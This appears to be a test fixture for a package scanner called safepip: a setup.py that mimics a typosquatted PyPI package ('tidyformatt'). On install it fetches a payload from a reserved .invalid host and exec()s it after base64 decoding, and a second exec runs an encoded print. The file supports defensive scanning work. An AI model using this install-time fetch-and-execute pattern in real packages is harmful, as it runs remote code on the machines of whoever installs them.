# A demonstration of a typical malicious sdist, modelled on real PyPI
# attacks: at install time it fetches a second stage, decodes it and runs
# it. safepip never runs this file; it is here to be blocked. The address
# is a reserved, unroutable name and the payload only prints.
import base64
import urllib.request as req
from setuptools import setup

stage2 = req.urlopen("http://update-check.invalid/payload").read()
exec(base64.b64decode(stage2))
exec(base64.b64decode("cHJpbnQoJ2RlbW8gcGF5bG9hZCcp"))

setup(name="tidyformatt", version="1.0.0", packages=["tidyformatt"])
